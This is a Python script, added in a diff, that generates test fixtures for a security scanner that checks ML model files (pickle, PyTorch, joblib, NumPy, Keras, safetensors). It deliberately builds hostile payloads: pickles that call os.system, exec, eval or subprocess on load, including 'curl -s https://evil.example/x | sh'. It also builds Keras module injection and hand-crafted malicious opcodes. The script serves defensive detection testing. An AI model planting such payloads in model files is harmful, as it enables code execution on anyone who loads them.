@@ -1,0 +1,400 @@
+#!/usr/bin/env python3
+"""Regenerates the model-file fixtures of the AISec model-files rules.
+
+Every pickle here is produced by CPython's own `pickle` module and every archive by `zipfile`, `tarfile`,
+`gzip`, `zlib` or `bz2`; nothing needs numpy, torch, joblib or keras. Where a fixture must name a global
+of a library that is not installed (torch._utils._rebuild_tensor_v2, numpy.core.multiarray._reconstruct,
+joblib.numpy_pickle.NumpyArrayWrapper, ...), a stand-in module is registered in `sys.modules` so that the
+real pickler writes exactly the GLOBAL/STACK_GLOBAL opcodes the library would. Layouts follow what the
+libraries write: torch.save's zip (archive/data.pkl, data/<key>, byteorder, version) and its legacy
+stacked pickles, joblib's NumpyPickler (array bytes written after the wrapper's BUILD, aligned to 16
+bytes), numpy's .npy header, the Keras v3 .keras zip (config.json, metadata.json, model.weights.h5) and
+the safetensors header. A few fixtures are hand-built hostile bytes (an unresolvable STACK_GLOBAL, an
+extension-registry code); they say so in their builder. HDF5 files are synthetic: the HDF5 signature and
+a `model_config` attribute name followed by the JSON text, which is what the scanner's documented
+heuristic reads (h5py is not available here).
+
+Usage: python3 scripts/gen-model-fixtures.py [--out DIR]
+Output is deterministic (fixed zip timestamps, gzip mtime 0). Each fixture gets a `<name>.expect`
+sidecar when it should raise findings (`1: AIS601`, line 1 meaning the whole file).
+"""
+import argparse
+import bz2
+import collections
+import gzip
+import io
+import json
+import os
+import pickle
+import struct
+import subprocess
+import sys
+import tarfile
+import types
+import zipfile
+import zlib
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+DEFAULT_OUT = os.path.join(HERE, '..', 'server', 'src', 'rules', 'model-files', 'fixtures')
+ZIP_TIME = (2024, 1, 1, 0, 0, 0)
+
+
+# --- Stand-in library modules (so the real pickler writes the real global names) ----------------------
+
+def stand_in(module_name, **members):
+    parts = module_name.split('.')
+    for i in range(1, len(parts) + 1):
+        name = '.'.join(parts[:i])
+        if name not in sys.modules:
+            sys.modules[name] = types.ModuleType(name)
+        if i > 1:
+            setattr(sys.modules['.'.join(parts[:i - 1])], parts[i - 1], sys.modules[name])
+    module = sys.modules[module_name]
+    for attr, value in members.items():
+        if isinstance(value, type) or callable(value):
+            value.__module__ = module_name
+            value.__qualname__ = attr
+            value.__name__ = attr
+        setattr(module, attr, value)
+    return module
+
+
+def _rebuild_tensor_v2(*args):
+    raise RuntimeError('stand-in')
+
+
+class FloatStorage:
+    pass
+
+
+def _reconstruct(*args):
+    raise RuntimeError('stand-in')
+
+
+class ndarray:
+    pass
+
+
+class dtype:
+    def __init__(self, descr, itemsize):
+        self.descr = descr
+        self.itemsize = itemsize
+
+    def __reduce__(self):
+        # numpy.dtype pickles as dtype(descr, False, True) plus a state tuple (version, byteorder, ...).
+        return (dtype, (self.descr, False, True), (3, '<' if self.descr[0] != '|' else '|', None, None, None, -1, -1, 0))
+
+    def __setstate__(self, state):
+        pass
+
+
+class NumpyArrayWrapper:
+    pass
+
+
+class Linear:
+    pass
+
+
+class TrainingPipeline:
+    """A class of a user library: not on the allow list, so loading it is 'suspicious'."""
+
+
+stand_in('torch._utils', _rebuild_tensor_v2=_rebuild_tensor_v2)
+stand_in('torch', FloatStorage=FloatStorage)
+stand_in('numpy.core.multiarray', _reconstruct=_reconstruct)
+stand_in('numpy', ndarray=ndarray, dtype=dtype)
+stand_in('joblib.numpy_pickle', NumpyArrayWrapper=NumpyArrayWrapper)
+stand_in('mylab.pipelines', TrainingPipeline=TrainingPipeline)
+# Real pickles of os.system name `posix.system` on Linux; attackers write `os.system`, so do we.
+os.system.__module__ = 'os'
+
+
+class Storage:
+    def __init__(self, key, numel, data):
+        self.key, self.numel, self.data = key, numel, data
+
+
+class Tensor:
+    def __init__(self, storage, size):
+        self.storage, self.size = storage, size
+
+    def __reduce_ex__(self, protocol):
+        return (_rebuild_tensor_v2, (self.storage, 0, self.size, (1,), False, collections.OrderedDict()))
+
+
+class TorchPickler(pickle.Pickler):
+    """Mimics torch.save: storages become persistent ids ('storage', type, key, location, numel)."""
+
+    def persistent_id(self, obj):
+        if isinstance(obj, Storage):
+            return ('storage', FloatStorage, obj.key, 'cpu', obj.numel)
+        return None
+
+
+class Payload:
+    """An object whose unpickling calls `fn(*args)`: the shape of every malicious pickle."""
+
+    def __init__(self, fn, *args):
+        self.fn, self.args = fn, args
+
+    def __reduce__(self):
+        return (self.fn, self.args)
+
+
+def torch_pickle(obj):
+    out = io.BytesIO()
+    TorchPickler(out, protocol=2).dump(obj)
+    return out.getvalue()
+
+
+def floats(n, start=0.0):
+    return struct.pack('<%df' % n, *[start + i * 0.5 for i in range(n)])
+
+
+def state_dict(extra=None):
+    weight = Storage('0', 4, floats(4))
+    bias = Storage('1', 2, floats(2, 1.0))
+    sd = collections.OrderedDict()
+    sd['fc.weight'] = Tensor(weight, (2, 2))
+    sd['fc.bias'] = Tensor(bias, (2,))
+    if extra is not None:
+        sd['_metadata'] = extra
+    return sd, [weight, bias]
+
+
+def zip_bytes(members, compression=zipfile.ZIP_STORED):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, 'w', compression) as z:
+        for name, data in members:
+            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
+            info.compress_type = compression
+            info.external_attr = 0o644 << 16
+            z.writestr(info, data)
+    return out.getvalue()
+
+
+def torch_zip(obj, storages, prefix='archive'):
+    members = [(f'{prefix}/data.pkl', torch_pickle(obj)), (f'{prefix}/byteorder', b'little')]
+    members += [(f'{prefix}/data/{s.key}', s.data) for s in storages]
+    members += [(f'{prefix}/version', b'3\n'), (f'{prefix}/.data/serialization_id', b'0123456789')]
+    return zip_bytes(members)
+
+
+def legacy_torch(obj, storages):
+    out = io.BytesIO()
+    for value in (0x1950a86a20f9469cfc6c, 1001, {'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}):
+        pickle.dump(value, out, protocol=2)
+    TorchPickler(out, protocol=2).dump(obj)
+    pickle.dump([s.key for s in storages], out, protocol=2)
+    for s in storages:
+        out.write(struct.pack('<q', s.numel))
+        out.write(s.data)
+    return out.getvalue()
+
+
+def npy(descr, shape, payload):
+    header = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, repr(tuple(shape)))
+    total = 10 + len(header) + 1
+    header += ' ' * ((64 - total % 64) % 64) + '\n'
+    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header.encode('latin1') + payload
+
+
+class FakeArray:
+    def __init__(self, descr, itemsize, shape, data):
+        self.dtype = dtype(descr, itemsize)
+        self.shape, self.data = shape, data
+
+
+class PyJoblibPickler(pickle._Pickler):
+    def save(self, obj, save_persistent_id=True):
+        if isinstance(obj, FakeArray):
+            wrapper = NumpyArrayWrapper()
+            wrapper.__dict__.update({'subclass': ndarray, 'shape': obj.shape, 'order': 'C', 'dtype': obj.dtype,
+                                     'allow_mmap': True, 'numpy_array_alignment_bytes': 16})
+            pickle._Pickler.save(self, wrapper)
+            if self.proto >= 4:
+                self.framer.commit_frame(force=True)
+            position = self.file_handle.tell()
+            padding = 16 - ((position + 1) % 16)
+            self.file_handle.write(bytes([padding]) + b'\xff' * padding)
+            self.file_handle.write(obj.data)
+            return
+        return pickle._Pickler.save(self, obj, save_persistent_id)
+
+
+def joblib_bytes(obj, protocol=4):
+    out = io.BytesIO()
+    pickler = PyJoblibPickler(out, protocol=protocol)
+    pickler.file_handle = out
+    pickler.dump(obj)
+    return out.getvalue()
+
+
+def keras_zip(config):
+    metadata = {'keras_version': '3.6.0', 'date_saved': '2024-01-01@00:00:00'}
+    weights = b'\x89HDF\r\n\x1a\n' + b'\x00' * 56
+    return zip_bytes([('metadata.json', json.dumps(metadata).encode()), ('config.json', json.dumps(config).encode()),
+                      ('model.weights.h5', weights)], zipfile.ZIP_DEFLATED)
+
+
+def keras_layer(class_name, name, extra=None, module='keras.layers'):
+    config = {'name': name, 'trainable': True, 'dtype': 'float32'}
+    config.update(extra or {})
+    return {'module': module, 'class_name': class_name, 'config': config, 'registered_name': None}
+
+
+def keras_model(layers):
+    return {'module': 'keras', 'class_name': 'Sequential', 'config': {'name': 'sequential', 'layers': layers}, 'registered_name': None}
+
+
+def synthetic_h5(model_config):
+    """HDF5 signature, padding, the attribute name and the JSON text (see the module docstring)."""
+    body = b'\x89HDF\r\n\x1a\n' + b'\x00' * 88 + b'TREE' + b'\x00' * 40 + b'HEAP' + b'\x00' * 24
+    if model_config is not None:
+        body += b'model_config\x00\x00\x00\x00' + b'\x13\x00\x00\x00' + json.dumps(model_config).encode() + b'\x00' * 8
+    body += b'SNOD' + b'\x00' * 64 + struct.pack('<8f', *[0.25 * i for i in range(8)])
+    return body
+
+
+def safetensors_bytes(tensors, metadata=None, corrupt=None):
+    header = {}
+    data = b''
+    for name, (dt, shape, raw) in tensors.items():
+        header[name] = {'dtype': dt, 'shape': list(shape), 'data_offsets': [len(data), len(data) + len(raw)]}
+        data += raw
+    if metadata is not None:
+        header['__metadata__'] = metadata
+    if corrupt:
+        corrupt(header)
+    text = json.dumps(header, separators=(',', ':')).encode()
+    text += b' ' * ((8 - len(text) % 8) % 8)
+    return struct.pack('<Q', len(text)) + text + data
+
+
+def tar_bytes(members):
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode='w', format=tarfile.USTAR_FORMAT) as t:
+        for name, data in members:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            info.mtime = 0
+            t.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
+# --- The fixtures -------------------------------------------------------------------------------------
+
+def fixtures():
+    f = {}
+
+    # Plain pickles.
+    f['bad-os-system.pkl'] = (pickle.dumps(Payload(os.system, 'curl -s https://evil.example/x | sh'), protocol=0), ['AIS601'])
+    f['bad-builtins-exec.pkl'] = (pickle.dumps(Payload(exec, "import os; os.system('id')"), protocol=2), ['AIS601'])
+    f['bad-stack-global-memo.pkl'] = (
+        pickle.dumps(['subprocess', 'check_output', Payload(subprocess.check_output, ['id'])], protocol=4), ['AIS601'])
+    f['bad-two-pickles.pkl'] = (pickle.dumps({'ok': 1}, protocol=2) + pickle.dumps(Payload(eval, '__import__("os")'), protocol=2), ['AIS601'])
+    f['bad-unknown-global.pkl'] = (pickle.dumps({'pipeline': TrainingPipeline()}, protocol=4), ['AIS602'])
+    sd, _ = state_dict()
+    f['bad-info-state-dict.pkl'] = (torch_pickle(sd), ['AIS603'])
+    f['bad-truncated.pkl'] = (torch_pickle(sd)[:-9], ['AIS603', 'AIS604'])
+    # Hand-built hostile bytes: STACK_GLOBAL operands produced by a call, so no scanner can name the global.
+    f['bad-unresolvable-global.pkl'] = (
+        b'\x80\x04' + b'\x8c\x08builtins\x8c\x03str\x93' + b'\x8c\x02os\x85R' + b'\x8c\x06system\x93' + b'\x8c\x02id\x85R.', ['AIS601'])
+    # Hand-built: an extension-registry code (resolved only through copyreg in the loading process).
+    f['bad-extension-code.pkl'] = (b'\x80\x02\x82\x07)R.', ['AIS601'])
+    f['bad-garbage.pkl'] = (b'\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\xff\xfe\xfd', ['AIS603', 'AIS604'])
+
+    # PyTorch.
+    sd, storages = state_dict()
+    f['bad-info-state-dict.pt'] = (torch_zip(sd, storages), ['AIS603'])
+    sd, storages = state_dict(extra=Payload(os.system, 'touch /tmp/pwned'))
+    f['bad-torch-zip-data-pkl.pt'] = (torch_zip(sd, storages, prefix='model'), ['AIS601'])
+    sd, storages = state_dict(extra=Payload(__import__('webbrowser').open, 'https://evil.example'))
+    f['bad-torch-legacy.pth'] = (legacy_torch(sd, storages), ['AIS601'])
+    sd, storages = state_dict()
+    f['bad-info-torch-legacy.pth'] = (legacy_torch(sd, storages), ['AIS603'])
+    sd, storages = state_dict()
+    whole = torch_zip(sd, storages)
+    f['bad-truncated-archive.pt'] = (whole[: len(whole) - 60], ['AIS603', 'AIS604'])
+    ts_members = [
+        ('model/data.pkl', pickle.dumps({'training': True}, protocol=2)),
+        ('model/constants.pkl', pickle.dumps((), protocol=2)),
+        ('model/code/__torch__/model.py', b'class Model(Module):\n  def forward(self, x):\n    return x\n'),
+        ('model/version', b'6\n'),
+    ]
+    f['bad-torchscript.pt'] = (zip_bytes(ts_members), ['AIS603', 'AIS608'])
+    sd, storages = state_dict(extra=Payload(os.system, 'id'))
+    inner = torch_zip(sd, storages)
+    f['bad-nested-archive.pt'] = (zip_bytes([('bundle/readme.txt', b'weights inside'), ('bundle/inner.pt', inner)]), ['AIS601'])
+    deep = torch_zip(*state_dict())
+    for i in range(4):
+        deep = zip_bytes([(f'level{i}/inner.zip', deep)])
+    f['bad-nested-too-deep.pt'] = (deep, ['AIS604'])
+    f['bad-torch-tar.pt'] = (tar_bytes([('sys_info', pickle.dumps({'little_endian': True}, protocol=2)),
+                                        ('pickle', pickle.dumps(Payload(os.system, 'id'), protocol=2)),
+                                        ('storages', pickle.dumps(0, protocol=2)), ('tensors', pickle.dumps(0, protocol=2))]), ['AIS601'])
+
+    # NumPy.
+    f['good-float-array.npy'] = (npy('<f4', (2, 3), floats(6)), [])
+    f['bad-object-array.npy'] = (npy('|O', (1,), pickle.dumps([Payload(os.system, 'id')], protocol=3)), ['AIS601'])
+    f['good-arrays.npz'] = (zip_bytes([('weights.npy', npy('<f4', (4,), floats(4))), ('bias.npy', npy('<f8', (1,), struct.pack('<d', 1.5)))],
+                                      zipfile.ZIP_DEFLATED), [])
+    f['bad-object-array.npz'] = (zip_bytes([('labels.npy', npy('|O', (1,), pickle.dumps([Payload(eval, '1+1')], protocol=3)))]), ['AIS601'])
+
+    # joblib.
+    arrays = {'coef_': FakeArray('<f8', 8, (3,), struct.pack('<3d', 0.5, -1.0, 2.0)), 'intercept_': FakeArray('<f8', 8, (1,), struct.pack('<d', 0.25))}
+    f['bad-info-joblib-arrays.joblib'] = (joblib_bytes(arrays), ['AIS603'])
+    evil = dict(arrays, transform=Payload(os.system, 'id'))
+    f['bad-joblib-payload.joblib'] = (joblib_bytes(evil), ['AIS601'])
+    f['bad-joblib-zlib.joblib'] = (zlib.compress(joblib_bytes(evil), 3), ['AIS601'])
+    f['bad-joblib-gzip.joblib'] = (gzip.compress(joblib_bytes(evil), mtime=0), ['AIS601'])
+    f['bad-joblib-bz2.joblib'] = (bz2.compress(joblib_bytes(arrays)), ['AIS604'])
+
+    # Keras.
+    dense = keras_layer('Dense', 'dense', {'units': 4, 'activation': 'relu'})
+    f['good-dense.keras'] = (keras_zip(keras_model([dense])), [])
+    lambda_layer = keras_layer('Lambda', 'lambda', {'function': {'class_name': '__lambda__', 'config': {'code': '4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwApAk7pAgAAAKkAKQHaAXhyAgAAAHICAAAA+gc8c3RkaW4+2gg8bGFtYmRhPgEAAADzAAAAAA==', 'defaults': None, 'closure': None}}})
+    f['bad-lambda.keras'] = (keras_zip(keras_model([dense, lambda_layer])), ['AIS606'])
+    custom = keras_layer('AttentionBlock', 'attention', {'heads': 2}, module='mylab.layers')
+    custom['registered_name'] = 'mylab>AttentionBlock'
+    f['bad-custom-object.keras'] = (keras_zip(keras_model([dense, custom])), ['AIS607'])
+    injected = keras_layer('Dense', 'dense_1', {'units': 1, 'activation': {'module': 'os', 'class_name': 'function', 'config': 'system', 'registered_name': 'function'}})
+    f['bad-module-injection.keras'] = (keras_zip(keras_model([dense, injected])), ['AIS601'])
+    legacy_lambda = {'class_name': 'Sequential', 'config': {'name': 'sequential', 'layers': [
+        {'class_name': 'Dense', 'config': {'name': 'dense', 'units': 4}},
+        {'class_name': 'Lambda', 'config': {'name': 'lambda', 'function': ['4wEAAAAAAAAAAAAAAAEAAAAC', None, None], 'function_type': 'lambda'}}]}}
+    f['bad-lambda.h5'] = (synthetic_h5(legacy_lambda), ['AIS606'])
+    f['good-dense.h5'] = (synthetic_h5({'class_name': 'Sequential', 'config': {'name': 'sequential', 'layers': [{'class_name': 'Dense', 'config': {'name': 'dense', 'units': 4}}]}}), [])
+    f['good-weights-only.h5'] = (synthetic_h5(None), [])
+
+    # safetensors.
+    tensors = {'fc.weight': ('F32', (2, 2), floats(4)), 'fc.bias': ('F32', (2,), floats(2))}
+    f['good-weights.safetensors'] = (safetensors_bytes(tensors, {'format': 'pt'}), [])
+    f['bad-offsets.safetensors'] = (safetensors_bytes(tensors, corrupt=lambda h: h['fc.bias'].update(data_offsets=[16, 4096])), ['AIS605'])
+    f['bad-overlap.safetensors'] = (safetensors_bytes(tensors, corrupt=lambda h: h['fc.bias'].update(data_offsets=[8, 16])), ['AIS605'])
+    broken = safetensors_bytes(tensors)
+    f['bad-header-json.safetensors'] = (broken[:8] + b'{"fc.weight": [' + broken[23:], ['AIS605'])
+    f['bad-pickle-disguised.safetensors'] = (torch_zip(*state_dict(extra=Payload(os.system, 'id'))), ['AIS601'])
+    return f
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument('--out', default=DEFAULT_OUT)
+    args = parser.parse_args()
+    os.makedirs(args.out, exist_ok=True)
+    for name, (data, expected) in sorted(fixtures().items()):
+        with open(os.path.join(args.out, name), 'wb') as fh:
+            fh.write(data)
+        expect_path = os.path.join(args.out, name + '.expect')
+        if expected:
+            with open(expect_path, 'w') as fh:
+                fh.write(''.join(f'1: {rule}\n' for rule in expected))
+        elif os.path.exists(expect_path):
+            os.remove(expect_path)
+    print(f'wrote {len(fixtures())} fixtures to {os.path.relpath(args.out)}')
+
+
+if __name__ == '__main__':
+    main()
